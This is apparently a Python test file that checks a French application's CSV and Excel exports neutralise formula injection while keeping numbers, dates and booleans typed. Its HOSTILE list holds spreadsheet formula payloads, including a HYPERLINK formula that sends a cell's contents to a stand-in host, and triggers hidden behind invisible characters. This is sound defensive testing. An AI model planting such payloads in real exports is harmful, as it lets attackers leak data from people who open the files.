"""Spreadsheet exports: no cell of user text can start a formula; numbers, dates and
booleans stay typed; CSV for French Excel (BOM, « ; »)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import exports

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Text a spreadsheet could take as a formula: a trigger first, or after blanks / invisible characters.
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1+1",
           "\r=1+1", " =1+1", "\n@x", "\u200b=1+1", "\ufeff-1", "＝1+1", "\x00=1"]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM makes Excel read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def xlsx_cells(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def starts_a_formula(text: str) -> bool:
    visible = text.lstrip()
    return text.startswith(TRIGGERS) or visible.startswith(TRIGGERS)


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_hostile_text_gets_an_apostrophe(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Bâti'Insert 95", "", "'=déjà neutralisé", "Linge & Co", "95 - Val-d'Oise"])
def test_neutralise_harmless_text_is_unchanged(text):
    assert exports.neutralise(text) == text


def test_exports_of_hostile_names_carry_no_live_formula():
    frame = pd.DataFrame({"Structure": HOSTILE, "Candidatures": range(len(HOSTILE))})
    rows = csv_rows(exports.to_csv(frame))
    assert rows[0] == ["Structure", "Candidatures"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    cells = xlsx_cells(exports.to_xlsx(frame))
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    assert [row[0].value for row in cells[1:]] == [exports.xlsx_text("'" + t) for t in HOSTILE]


# Any text, including control and invisible characters, in one or more columns.
texts = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)
frames = st.lists(st.tuples(texts, texts), min_size=1, max_size=8).map(
    lambda rows: pd.DataFrame(rows, columns=["Nom", "Ville"]))


@settings(max_examples=150, deadline=None)
@given(frames)
def test_exports_never_start_a_text_cell_with_a_formula_trigger(frame):
    for row in csv_rows(exports.to_csv(frame)):
        assert not any(starts_a_formula(cell) for cell in row), row
    for row in xlsx_cells(exports.to_xlsx(frame)):
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert cell.value is None or not starts_a_formula(cell.value), cell.value



@pytest.mark.parametrize("text", ["\x1f\t", "\x1f\tParis", "\x02\x03\tx"])
def test_xlsx_text_whose_dropped_control_character_hid_a_trigger_is_neutralised(text):
    """An .xlsx cell cannot hold these control characters: once they are dropped, the
    trigger behind them comes first, and must be neutralised too."""
    [_, [cell]] = xlsx_cells(exports.to_xlsx(pd.DataFrame({"Ville": [text]})))
    assert not starts_a_formula(cell.value), cell.value

def test_exports_keep_numbers_dates_and_booleans_typed():
    moment = datetime(2026, 7, 1, 8, 30, 15, tzinfo=UTC)  # 10:30:15 in Paris (summer time)
    frame = pd.DataFrame({
        "Solde": [-3, 12],
        "Taux": [-0.5, 1.25],
        "Reçue le": pd.Series([moment, None], dtype="datetime64[ns, UTC]").dt.tz_convert("Europe/Paris"),
        "Date": [date(2026, 3, 18), None],
        "Retenue": [True, False],
        "Secteurs": [["Restauration", "=cmd"], []],
    })
    cells = xlsx_cells(exports.to_xlsx(frame))
    first, second = cells[1], cells[2]
    assert [c.value for c in first[:2]] == [-3, -0.5] and first[0].data_type == "n"  # a negative number is a number
    assert first[2].value == datetime(2026, 7, 1, 10, 30, 15) and first[2].number_format == "DD/MM/YYYY HH:MM:SS"
    assert first[3].value == datetime(2026, 3, 18) and first[3].number_format == "DD/MM/YYYY"
    assert first[4].value is True and second[4].value is False
    assert first[5].value == "Restauration, =cmd" and second[5].value is None
    assert [c.value for c in second[2:4]] == [None, None]
    rows = csv_rows(exports.to_csv(frame))
    assert rows[1] == ["-3", "-0,5", "01/07/2026 10:30:15", "18/03/2026", "Oui", "Restauration, =cmd"]
    assert rows[2] == ["12", "1,25", "", "", "Non", ""]


def test_to_csv_quotes_separators_and_line_breaks():
    frame = pd.DataFrame({"Nom": ["A ; B", "ligne 1\nligne 2", 'dit "X"']})
    assert [r[0] for r in csv_rows(exports.to_csv(frame))[1:]] == ["A ; B", "ligne 1\nligne 2", 'dit "X"']


def test_to_xlsx_drops_characters_a_workbook_cannot_hold():
    frame = pd.DataFrame({"Nom": ["Bip\x07 bip\x0b"]})
    assert xlsx_cells(exports.to_xlsx(frame))[1][0].value == "Bip bip"


def test_exports_of_an_empty_table_keep_the_headings():
    frame = pd.DataFrame({"Structure": pd.Series([], dtype=str), "=Total": pd.Series([], dtype=int)})
    assert csv_rows(exports.to_csv(frame)) == [["Structure", "'=Total"]]
    assert [c.value for c in xlsx_cells(exports.to_xlsx(frame))[0]] == ["Structure", "'=Total"]
